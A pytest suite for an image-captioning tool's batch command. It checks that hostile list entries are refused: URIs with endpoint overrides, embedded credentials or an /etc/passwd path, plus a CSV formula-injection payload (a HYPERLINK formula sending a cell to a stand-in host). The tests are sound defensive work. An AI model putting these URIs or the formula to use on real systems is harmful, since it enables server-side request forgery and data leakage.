"""Hostile input for the batch command: URIs from data files, names that are not UTF-8, resume identity,
caps, data files of the wrong shape, outputs that cannot be written, CSV formulas."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import socket
import threading
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.fs as pafs
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from captioner.batch import __main__ as batch_cli
from captioner.batch import formats, items, lists, locations, outputs
from captioner.batch.items import iter_items, read_item
from captioner.batch.locations import LocationRefused, check_uri
from captioner.batch.outputs import JOURNAL_SUFFIX, OutputFile, read_records
from captioner.batch.parquet_folder import ParquetFolder
from captioner.batch.rows import BatchRun, CaptionRow, batch_config
from captioner.files import escape_name, unescape_name
from captioner.images import ImageLoadError
from captioner.loading import load_captioner
from tests.unit.batch_files import read_rows

PROPERTY = settings(derandomize=True, deadline=None, max_examples=60, suppress_health_check=list(HealthCheck))


def png(colour=(200, 40, 40), size=(48, 36)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, colour).save(buf, "PNG")
    return buf.getvalue()


def within(seconds: float, fn, *args):
    """fn(*args) in a thread; fails (instead of hanging the suite) when it takes longer."""
    result: list = []

    def call():
        try:
            result.append((True, fn(*args)))
        except BaseException as e:  # raised again in the caller's thread
            result.append((False, e))

    thread = threading.Thread(target=call, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s"
    ok, value = result[0]
    if not ok:
        raise value
    return value


# -- URIs from data files -------------------------------------------------------------------------------
HOSTILE_URIS = [
    "s3://photos/cat.png?endpoint_override=127.0.0.1:{port}&scheme=http",
    "s3://KEY:SECRET@photos/cat.png",
    "s3://127.0.0.1:{port}/cat.png",
    "gs://photos/cat.png?endpoint_override=127.0.0.1:{port}",
    "gs://photos/cat.png#fragment",
    "abfs://container@account.dfs.core.windows.net/cat.png",
    "hdfs://127.0.0.1:{port}/cat.png",
    "http://127.0.0.1:{port}/cat.png",
    "file://127.0.0.1:{port}/etc/passwd",
]


@pytest.fixture
def recorded_filesystems(monkeypatch):
    """Every pyarrow object-storage filesystem constructor records its options instead of running."""
    made: list[tuple[str, dict]] = []

    class Refusing:
        def __getattr__(self, name):
            def refuse(*args, **kwargs):
                raise OSError("no network in this test")

            return refuse

    def recorder(kind):
        def make(*args, **kwargs):
            made.append((kind, {**kwargs, **({"args": args} if args else {})}))
            return Refusing()

        return make

    for kind in ("S3FileSystem", "GcsFileSystem", "AzureFileSystem", "HadoopFileSystem"):
        if hasattr(pafs, kind):
            monkeypatch.setattr(pafs, kind, recorder(kind))
    for variable in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3"):
        monkeypatch.delenv(variable, raising=False)
    # (FileSystem.from_uri, which reads options from a URI's query, is a C type's method and can't be
    # patched; the listening socket below is what catches any use of it.)
    locations._filesystem.cache_clear()
    yield made
    locations._filesystem.cache_clear()


def test_a_list_file_makes_the_batch_contact_no_host_and_use_no_option(run_cli, tmp_path, recorded_filesystems):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    (tmp_path / "good.png").write_bytes(png())
    lines = [u.format(port=port) for u in HOSTILE_URIS] + ["good.png", "s3://photos/allowed.png"]
    (tmp_path / "list.txt").write_text("\n".join(lines) + "\n")
    status, err = run_cli(tmp_path / "list.txt", "--out", tmp_path / "c.jsonl")
    rows = read_rows(tmp_path / "c.jsonl")
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody connected
    listener.close()
    assert status == 1 and "Traceback" not in err
    assert len(rows) == len(lines) and [r["status"] for r in rows].count("ok") == 1
    assert all(
        "refused" in r["error"] or "not read" in r["error"] or "names a path" in r["error"] for r in rows[: len(HOSTILE_URIS)]
    )
    assert "could not be read" in rows[-1]["error"]  # the allowed URI: one error row, the run goes on
    # The only filesystem made is the allowed scheme's, with the batch's own timeouts and nothing from the line.
    assert [kind for kind, _ in recorded_filesystems] == ["S3FileSystem"]
    assert set(recorded_filesystems[0][1]) == {"connect_timeout", "request_timeout", "retry_strategy"}


def test_the_endpoint_comes_from_the_users_environment(recorded_filesystems, monkeypatch, tmp_path):
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://minio.internal:9000")
    (tmp_path / "list.txt").write_text("s3://photos/a.png?endpoint_override=evil.example:80\ns3://photos/b.png\n")
    refused, allowed = iter_items([str(tmp_path / "list.txt")])
    assert "query string" in refused.problem and not allowed.problem
    with pytest.raises(ImageLoadError):
        read_item(allowed)
    ((kind, options),) = recorded_filesystems
    assert (options["endpoint_override"], options["scheme"]) == ("minio.internal:9000", "http")


@pytest.mark.parametrize("error", [OSError("gone"), NotImplementedError("nope"), pa.ArrowInvalid("bad"), KeyError("k")])
def test_a_failing_location_is_one_error_row(tmp_path, monkeypatch, error):
    class Failing:
        def __getattr__(self, name):
            def fail(*args, **kwargs):
                raise error

            return fail

    monkeypatch.setattr(locations, "_filesystem", lambda scheme: Failing())
    (tmp_path / "good.png").write_bytes(png())
    (tmp_path / "list.csv").write_text("path\ns3://photos/a.png\ngood.png\n")
    found = list(iter_items([str(tmp_path / "list.csv"), "gs://photos/folder/"]))
    assert [i.name for i in found[:2]] == ["s3://photos/a.png", str(tmp_path / "good.png")]
    with pytest.raises(ImageLoadError, match="could not be read"):
        read_item(found[0])
    assert read_item(found[1]) == (tmp_path / "good.png").read_bytes()
    assert "could not be listed" in found[2].problem


def test_a_file_uri_of_a_fifo_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "pipe.png")
    uri = (tmp_path / "pipe.png").as_uri()
    (tmp_path / "pipes.txt").write_text(uri + "\n")
    (item,) = within(20, lambda: list(iter_items([str(tmp_path / "pipes.txt")])))
    with pytest.raises(ImageLoadError, match="not a regular file"):
        within(20, read_item, item)
    assert within(20, lambda: list(iter_items([tmp_path.as_uri()]))) == []


uri_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)


@PROPERTY
@given(st.sampled_from(["s3", "gs", "file", "abfs", "S3", "hdfs", "http", "az", "gcs", "mock"]), uri_text)
def test_an_accepted_uri_carries_no_host_option_or_credential(scheme, rest):
    uri = f"{scheme}://{rest}"
    try:
        kind, path = check_uri(uri)
    except LocationRefused:
        return
    assert kind in locations.SCHEMES and "?" not in uri and "#" not in uri
    place = uri.split("://", 1)[1].split("/", 1)[0]
    assert ":" not in place and "@" not in place
    if kind == "file":
        assert place in ("", "localhost") and path.startswith("/")


@PROPERTY
@given(st.lists(st.binary(max_size=60), max_size=8), st.sampled_from(["txt", "csv"]))
def test_any_bytes_in_a_list_give_items_never_an_exception(tmp_path_factory, lines, ext):
    folder = tmp_path_factory.mktemp("lists")
    body = (b"path,reference\n" if ext == "csv" else b"") + b"\n".join(lines)
    (folder / f"list.{ext}").write_bytes(body)
    found = list(iter_items([str(folder / f"list.{ext}")]))
    for item in found:
        json.dumps(item.to_record())  # every name is writable
        assert BatchItem_roundtrip(item)


def BatchItem_roundtrip(item) -> bool:
    return items.BatchItem.from_record(item.to_record()) == item


# -- names that are not UTF-8 -------------------------------------------------------------------------------
@PROPERTY
@given(st.text(alphabet=st.characters(codec=None), max_size=30))
def test_escaped_names_are_utf8_and_come_back(name):
    escaped = escape_name(name)
    escaped.encode("utf-8")
    assert unescape_name(escaped) == name


@pytest.mark.parametrize("fmt", ["parquet", "csv", "jsonl"])
def test_a_name_that_is_not_utf8_is_captioned_in_every_format(run_cli, tmp_path, fmt):
    folder = tmp_path / "photos"
    folder.mkdir()
    raw = os.fsdecode(b"caf\xe9.png")
    (folder / raw).write_bytes(png())
    (folder / "plain.png").write_bytes(png((0, 0, 200)))
    out = tmp_path / f"c.{fmt}"
    status, err = run_cli(folder, "--out", out)
    rows = read_rows(out)
    assert status == 0 and "Traceback" not in err and [r["status"] for r in rows] == ["ok", "ok"]
    assert rows[0]["path"] == str(folder) + "/caf\\xe9.png" and os.path.exists(unescape_name(rows[0]["path"]))
    status, err = run_cli(folder, "--out", out)  # resume finds it by its escaped name
    assert status == 0 and "skipped 2 images" in err and len(read_rows(out)) == 2


@pytest.mark.slow
def test_the_cli_prints_a_name_that_is_not_utf8_on_a_strict_utf8_stdout(tmp_path):
    import subprocess
    import sys

    (tmp_path / os.fsdecode(b"caf\xe9.png")).write_bytes(png())
    (tmp_path / "plain.png").write_bytes(png((0, 0, 200)))
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONIOENCODING": "utf-8:strict", "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(root)}
    names = [os.fsencode(tmp_path / n) for n in (os.fsdecode(b"caf\xe9.png"), "plain.png")]
    done = subprocess.run(
        [os.fsencode(sys.executable), b"-m", b"captioner", *names, b"--model", b"builtin"],
        capture_output=True,
        env=env,
        cwd=root,
        timeout=300,
    )
    lines = done.stdout.decode("utf-8").splitlines()
    assert done.returncode == 0 and b"Traceback" not in done.stderr and len(lines) == 2
    assert lines[0].startswith(str(tmp_path) + "/caf\\xe9.png\t")


# -- resume identity ---------------------------------------------------------------------------------------
def test_the_same_weights_by_two_paths_are_one_run_and_new_weights_another(tiny_visiongpt2_dir, tmp_path, monkeypatch):
    import torch

    config = lambda m: batch_config(m, m.default_decoding)  # noqa: E731
    first = load_captioner(str(tiny_visiongpt2_dir / "captioner.pt"))
    monkeypatch.chdir(tiny_visiongpt2_dir.parent)
    second = load_captioner(os.path.join(".", tiny_visiongpt2_dir.name, "captioner.pt"))
    assert BatchRun.of(first, config(first)).run_key == BatchRun.of(second, config(second)).run_key
    copy = tmp_path / "retrained"
    copy.mkdir()
    for f in tiny_visiongpt2_dir.iterdir():
        (copy / f.name).write_bytes(f.read_bytes())
    weights = torch.load(copy / "captioner.pt", weights_only=True)
    name = next(k for k, v in weights.items() if v.is_floating_point() and v.dim() == 2)
    weights[name] = weights[name] + 0.01
    torch.save(weights, copy / "captioner.pt")
    retrained = load_captioner(str(copy / "captioner.pt"))
    assert BatchRun.of(retrained, config(retrained)).run_key != BatchRun.of(first, config(first)).run_key


def test_one_folder_however_spelled_is_one_row_per_image(run_cli, tmp_path, monkeypatch):
    (tmp_path / "imgs").mkdir()
    for i in range(3):
        (tmp_path / "imgs" / f"{i}.png").write_bytes(png((60 * i, 90, 90)))
    monkeypatch.chdir(tmp_path)
    status, err = run_cli("imgs", "./imgs/", tmp_path / "imgs", "imgs/../imgs/1.png", "--out", "c.csv")
    rows = read_rows(tmp_path / "c.csv")
    assert status == 0 and sorted(r["path"] for r in rows) == [str(tmp_path / "imgs" / f"{i}.png") for i in range(3)]


def test_a_glob_is_matched_as_given_when_the_working_folder_has_glob_characters(tmp_path, monkeypatch):
    odd = tmp_path / "[photos]"
    odd.mkdir()
    (odd / "a.png").write_bytes(png())
    monkeypatch.chdir(odd)
    assert [i.name for i in iter_items(["*.png"])] == [str(odd / "a.png")]


def test_two_pictures_of_one_name_in_a_zip_both_get_rows(run_cli, tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z, pytest.warns(UserWarning, match="Duplicate name"):
        z.writestr("a.png", png((255, 0, 0)))
        z.writestr("a.png", png((0, 0, 255)))
        z.writestr("b.png", png((0, 255, 0)))
    (tmp_path / "p.zip").write_bytes(buf.getvalue())
    status, err = run_cli(tmp_path / "p.zip", "--out", tmp_path / "c.jsonl")
    rows = read_rows(tmp_path / "c.jsonl")
    assert status == 0 and "wrote 3 rows" in err and len(rows) == 3 and len({r["sha256"] for r in rows}) == 3
    assert [r["path"].rsplit("/", 1)[1] for r in rows] == ["a.png", "a.png#2", "b.png"]


def test_references_on_a_second_listing_or_a_later_run_are_merged(run_cli, tmp_path, monkeypatch):
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "red.png").write_bytes(png())
    (tmp_path / "photos" / "blue.png").write_bytes(png((0, 0, 220)))
    (tmp_path / "refs.csv").write_text("path,reference\nphotos/red.png,a red square | red\nphotos/blue.png,blue\n")
    monkeypatch.chdir(tmp_path)
    status, err = run_cli("photos/", "refs.csv", "--out", "one.parquet")
    rows = {Path(r["path"]).name: r for r in read_rows(tmp_path / "one.parquet")}
    assert status == 0 and rows["red.png"]["references"] == ["a red square", "red"] and "BLEU-4" in err
    # A later run brings the references: the rows keep their captions and gain them.
    run_cli("photos/", "--out", "two.csv")
    before = {r["path"]: r["caption"] for r in read_rows(tmp_path / "two.csv")}
    status, err = run_cli("refs.csv", "--out", "two.csv")
    after = read_rows(tmp_path / "two.csv")
    assert "skipped 2 images" in err and "over 2 images with references" in err and len(after) == 2
    assert {r["path"]: r["caption"] for r in after} == before
    assert {Path(r["path"]).name: json.loads(r["references"]) for r in after} == {
        "red.png": ["a red square", "red"],
        "blue.png": ["blue"],
    }


# -- caps and data files of the wrong shape -----------------------------------------------------------------
def test_a_line_too_long_is_one_error_row_and_never_copied(run_cli, tmp_path, monkeypatch):
    monkeypatch.setattr(lists, "MAX_LINE_BYTES", 50_000)
    (tmp_path / "a.png").write_bytes(png())
    (tmp_path / "b.png").write_bytes(png((0, 90, 0)))
    (tmp_path / "list.txt").write_bytes(b"a.png\n" + b"x" * 3_000_000 + b"\nb.png\n")
    status, err = run_cli(tmp_path / "list.txt", "--out", tmp_path / "c.jsonl")
    rows = read_rows(tmp_path / "c.jsonl")
    assert [r["status"] for r in rows] == ["ok", "error", "ok"] and "line 2 is longer" in rows[1]["error"]
    assert (tmp_path / "c.jsonl").stat().st_size < 20_000


def test_a_huge_reference_in_one_csv_row_is_that_rows_error_only(run_cli, tmp_path):
    for name in "abc":
        (tmp_path / f"{name}.png").write_bytes(png((ord(name), 40, 40)))
    (tmp_path / "list.csv").write_text(f"path,reference\na.png,fine\nb.png,{'y' * 200_000}\nc.png,also fine\n")
    status, err = run_cli(tmp_path / "list.csv", "--out", tmp_path / "c.csv")
    rows = read_rows(tmp_path / "c.csv")
    assert status == 1 and [r["status"] for r in rows] == ["ok", "error", "ok"]
    assert json.loads(rows[2]["references"]) == ["also fine"]


def test_too_many_or_too_long_references_and_paths_are_error_rows(tmp_path):
    (tmp_path / "list.parquet").write_bytes(b"")
    table = pa.table({"path": ["a.png", "b.png", "c.png", "d" * 5000], "reference": [["r"] * 101, ["z" * 3000], ["ok"], []]})
    pq.write_table(table, tmp_path / "list.parquet")
    found = list(iter_items([str(tmp_path / "list.parquet")]))
    assert ["101 references" in found[0].problem, "3,000 characters" in found[1].problem] == [True, True]
    assert not found[2].problem and found[2].references == ("ok",) and "5,000 characters" in found[3].problem


@pytest.mark.parametrize(
    "column",
    [
        pa.array([[1, 2], [3]], pa.list_(pa.int64())),
        pa.array([[["a"]], [["b"]]], pa.list_(pa.list_(pa.string()))),
        pa.array([1, 2], pa.int64()),
    ],
)
def test_a_parquet_list_of_the_wrong_types_is_one_line(run_cli, tmp_path, column):
    pq.write_table(pa.table({"path": ["a.png", "b.png"], "reference": column}), tmp_path / "list.parquet")
    status, err = run_cli(tmp_path / "list.parquet", "--out", tmp_path / "c.jsonl")
    (row,) = read_rows(tmp_path / "c.jsonl")
    assert status == 1 and "Traceback" not in err and "'reference' column holds" in row["error"]


def test_latin1_bytes_in_a_csv_list_still_give_every_row(run_cli, tmp_path):
    names = [f"{i}.png" for i in range(8)]
    for i, name in enumerate(names):
        (tmp_path / name).write_bytes(png((30 * i, 50, 50)))
    (tmp_path / os.fsdecode(b"caf\xe9.png")).write_bytes(png((1, 2, 3)))
    body = "path,reference\n" + "".join(f"{n},un caf\xe9 {i}\n" for i, n in enumerate(names)) + "caf\xe9.png,x\n"
    (tmp_path / "list.csv").write_bytes(body.encode("latin-1"))
    status, err = run_cli(tmp_path / "list.csv", "--out", tmp_path / "c.jsonl")
    rows = read_rows(tmp_path / "c.jsonl")
    assert status == 0 and len(rows) == 9 and rows[0]["references"] == ["un caf\ufffd 0"]
    assert rows[-1]["path"].endswith("caf\\xe9.png")  # the list's bytes name the file of those bytes


def test_a_list_over_its_size_cap_and_a_batch_size_over_its_cap_are_one_line(run_cli, tmp_path, monkeypatch):
    monkeypatch.setattr(items, "MAX_LIST_BYTES", 100)
    (tmp_path / "list.txt").write_text("a.png\n" * 50)
    (only,) = iter_items([str(tmp_path / "list.txt")])
    assert "the limit is 100" in only.problem
    with pytest.raises(SystemExit) as exit_:
        batch_cli.main([str(tmp_path), "--out", str(tmp_path / "c.csv"), "--batch-size", "1500"])
    assert exit_.value.code == 2


@PROPERTY
@given(cpus=st.one_of(st.sampled_from(["nan", "-nan", "inf", "1e309", "-0.5"]), st.floats(max_value=-1e-9).map(repr)))
def test_worker_cpus_that_are_no_count_of_cpus_are_a_usage_error(cpus, tmp_path_factory):
    # A NaN passed the old `< 0` check and went on to Ray as num_cpus.
    out = tmp_path_factory.mktemp("cpus") / "c.csv"
    stderr = io.StringIO()
    with pytest.raises(SystemExit) as exit_, contextlib.redirect_stderr(stderr):
        batch_cli.main([str(out.parent), "--out", str(out), "--ray", f"--worker-cpus={cpus}"])
    assert exit_.value.code == 2 and "--worker-cpus a finite number of 0 or more" in stderr.getvalue()
    assert not out.exists()


# -- outputs ---------------------------------------------------------------------------------------------
@pytest.fixture
def photos(tmp_path) -> Path:
    folder = tmp_path / "photos"
    folder.mkdir()
    for i in range(4):
        (folder / f"{i}.png").write_bytes(png((50 * i, 100, 30)))
    return folder


def test_outputs_that_cannot_be_written_are_one_line_and_leave_nothing(run_cli, photos, tmp_path):
    for out in [tmp_path / "captions/", photos / "0.png" / "c.csv"]:  # a folder name; a file as folder
        status, err = run_cli(photos, "--out", str(out) + ("/" if out.name == "captions" else ""))
        assert status == 2 and err.count("\n") <= 2 and "Traceback" not in err
    assert not (tmp_path / "captions").exists()
    os.mkfifo(tmp_path / "pipe.csv")
    status, err = within(60, run_cli, photos, "--out", tmp_path / "pipe.csv")
    assert status == 2 and "not a regular file" in err
    (tmp_path / "mine.csv").write_text("name,notes\nfoo,bar\n")
    status, err = run_cli(photos, "--out", tmp_path / "mine.csv")
    assert status == 2 and not (tmp_path / ("mine.csv" + JOURNAL_SUFFIX)).exists()


def test_a_full_disk_is_one_line_and_keeps_what_was_written(run_cli, photos, tmp_path, monkeypatch):
    out = tmp_path / "c.parquet"
    run_cli(photos / "0.png", "--out", out)
    before = out.read_bytes()
    real, calls = outputs._durable_write, []

    def full_on_the_second_chunk(f, data):
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real(f, data)

    monkeypatch.setattr(outputs, "_durable_write", full_on_the_second_chunk)
    status, err = run_cli(photos, "--out", out, "--batch-size", "1")
    assert status == 2 and "the disk is full" in err and "Traceback" not in err and out.read_bytes() == before
    journal = tmp_path / ("c.parquet" + JOURNAL_SUFFIX)
    assert len(journal.read_text().splitlines()) == 1  # the first new chunk is kept
    monkeypatch.setattr(outputs, "_durable_write", real)

    def full_while_rewriting(self, records):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(formats.Writer, "write", full_while_rewriting)
    status, err = run_cli(photos, "--out", out)
    assert status == 2 and "the disk is full" in err and out.read_bytes() == before
    assert not list(tmp_path.glob("c.parquet.tmp-*")) and journal.exists()
    monkeypatch.undo()
    monkeypatch.setattr(batch_cli, "_load_model", lambda spec, dtype: (load_captioner("builtin"), "builtin"))
    status, err = run_cli(photos, "--out", out)
    assert status == 0 and len(read_rows(out)) == 4


def test_a_symlinked_output_is_written_through_to_its_target(run_cli, photos, tmp_path):
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "c.jsonl"
    (tmp_path / "link.jsonl").symlink_to(target)
    status, _ = run_cli(photos, "--out", tmp_path / "link.jsonl")
    assert status == 0 and (tmp_path / "link.jsonl").is_symlink() and len(read_rows(target)) == 4


def test_stale_temporaries_are_removed_and_a_second_ctrl_c_waits(run_cli, photos, tmp_path, monkeypatch):
    out = tmp_path / "c.csv"
    (tmp_path / "c.csv.tmp-4242").write_text("half a rewrite")
    (tmp_path / "c.csv.tmp-notours").write_text("someone else's")
    real, sent = formats.Writer.write, []

    def interrupted_once(self, records):
        if not sent:
            sent.append(1)
            os.kill(os.getpid(), 2)  # SIGINT while the output is rewritten
        real(self, records)

    monkeypatch.setattr(formats.Writer, "write", interrupted_once)
    status, err = run_cli(photos, "--out", out)
    assert sent and status == 130 and "Traceback" not in err and len(read_rows(out)) == 4
    assert not (tmp_path / "c.csv.tmp-4242").exists() and (tmp_path / "c.csv.tmp-notours").exists()


def test_a_damaged_journal_is_skipped_line_by_line(run_cli, photos, tmp_path):
    out = tmp_path / "c.jsonl"
    good = CaptionRow(str(photos / "9.png"), sha256="0" * 64, caption="kept", run_key="other").to_record()
    lines = [
        json.dumps(good),
        "\0" * 40,
        "{}",
        "null",
        '{"path": 1, "run_key": "x", "status": "ok"}',
        json.dumps({**good, "width": "wide"}),
        "[1, 2]",
        json.dumps({**good, "path": str(photos / "8.png")}),
    ]
    (tmp_path / ("c.jsonl" + JOURNAL_SUFFIX)).write_text("\n".join(lines) + "\n")
    status, err = run_cli(photos, "--out", out)
    rows = read_rows(out)
    assert status == 0 and "6 damaged lines" in err and len(rows) == 6
    assert [r["caption"] for r in rows[:2]] == ["kept", "kept"]


@PROPERTY
@given(st.lists(st.binary(max_size=40).filter(lambda b: b"\n" not in b), min_size=1, max_size=6))
def test_any_damaged_lines_in_a_journal_keep_the_good_rows(tmp_path_factory, junk):
    folder = tmp_path_factory.mktemp("journal")
    out = folder / "c.jsonl"
    good = [CaptionRow(f"/p/{i}.png", sha256=str(i), caption="c", run_key="k").to_record() for i in range(2)]
    body = json.dumps(good[0]).encode() + b"\n" + b"\n".join(junk) + b"\n" + json.dumps(good[1]).encode() + b"\n"
    (folder / ("c.jsonl" + JOURNAL_SUFFIX)).write_bytes(body)
    with OutputFile(str(out)) as output:
        output.finish()
    assert [r["path"] for r in read_rows(out)] == ["/p/0.png", "/p/1.png"]


def test_a_ray_folder_never_touches_files_it_did_not_write(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    pq.write_table(pa.table({"path": ["a.png"], "reference": ["x"]}), data / "list.parquet")
    (data / "broken.parquet").write_bytes(b"PAR1 not really")
    ours = CaptionRow("/p/a.png", sha256="1", caption="c", run_key="k").to_record()
    pq.write_table(outputs.records_table([ours]), data / "ours.parquet")
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    folder = ParquetFolder(str(data) + "/")
    assert len(folder.done_keys("k")) == 1
    newer = CaptionRow("/p/a.png", sha256="2", caption="d", run_key="k").to_record()
    pq.write_table(outputs.records_table([newer]), data / "new.parquet")
    folder.drop_replaced([str(data / "new.parquet")])
    after = {p.name: p.read_bytes() for p in data.iterdir()}
    assert {k: after[k] for k in ("list.parquet", "broken.parquet")} == {k: before[k] for k in ("list.parquet", "broken.parquet")}
    assert pq.read_table(data / "ours.parquet").num_rows == 0  # our own older row, replaced


def test_references_from_a_later_ray_run_are_merged_into_the_rows(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    older = CaptionRow("/p/a.png", sha256="1", caption="c", references=["a"], run_key="k").to_record()
    pq.write_table(outputs.records_table([older]), data / "old.parquet")
    came = CaptionRow("/p/a.png", sha256="1", references=["a", "b"], run_key="k", status="references").to_record()
    fresh = CaptionRow("/p/n.png", sha256="2", caption="n", run_key="k").to_record()
    pq.write_table(outputs.records_table([came]), data / "refs-only.parquet")
    pq.write_table(outputs.records_table([came, fresh]), data / "mixed.parquet")
    folder = ParquetFolder(str(data))
    folder.drop_replaced([str(data / "refs-only.parquet"), str(data / "mixed.parquet")])
    assert not (data / "refs-only.parquet").exists()  # written by this run, held only references
    assert pq.read_table(data / "old.parquet").to_pylist()[0]["references"] == ["a", "b"]
    assert [r["path"] for r in pq.read_table(data / "mixed.parquet").to_pylist()] == ["/p/n.png"]
    assert folder.scores("k").images == 1


# -- CSV formulas ----------------------------------------------------------------------------------------
@PROPERTY
@given(
    st.lists(
        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12).map(lambda t: t.strip("\r")),
        min_size=1,
        max_size=4,
    )
)
def test_csv_cells_never_start_a_formula_and_read_back_the_same(tmp_path_factory, texts):
    texts = [f"{p}{t}" for p, t in zip(["=", "+", "-", "@", "\t", "'", ""], texts)]
    path = str(tmp_path_factory.mktemp("csv") / "c.csv")
    writer = formats.Writer(path, "csv")
    writer.write([CaptionRow(t, caption=t, error=t, run_key="k").to_record() for t in texts])
    writer.write([CaptionRow("n.png", logprob=-1.5, run_key="k").to_record()])  # a number stays a number
    writer.close()
    with open(path, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    cells = [c for row in table[1:-1] for c in row]
    assert not any(c.startswith(formats.FORMULA_STARTS) for c in cells)
    assert table[-1][table[0].index("logprob")] == "-1.5"
    back = [r for chunk in read_records(path, "csv") for r in chunk]
    assert [(r["path"], r["caption"], r["error"]) for r in back[:-1]] == [(t, t, t) for t in texts]
    assert back[-1]["logprob"] == "-1.5"


def test_the_apps_csv_download_uses_the_same_rule():
    import pandas as pd

    from captioner.app.views.tables import csv_bytes

    table = pd.DataFrame({"image": ['=HYPERLINK("https://x.example/"&B2, "see")', "ok.png"], "score": [-1.5, 2.0]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
    assert rows[1] == ['\'=HYPERLINK("https://x.example/"&B2, "see")', "-1.5"] and rows[2] == ["ok.png", "2.0"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_an_existing_table_without_rows_that_is_not_ours_is_refused_not_overwritten(tmp_path, suffix):
    """A header-only CSV or a zero-row Parquet of another schema is someone's data: refused, left as it was."""
    out = tmp_path / f"theirs{suffix}"
    if suffix == ".csv":
        out.write_text("important,data\n")
    else:
        pq.write_table(pa.table({"foo": pa.array([], pa.string())}), out)
    before = out.read_bytes()
    with pytest.raises(outputs.OutputError, match="is not a table of captions"):
        with OutputFile(str(out)):
            pass
    assert out.read_bytes() == before
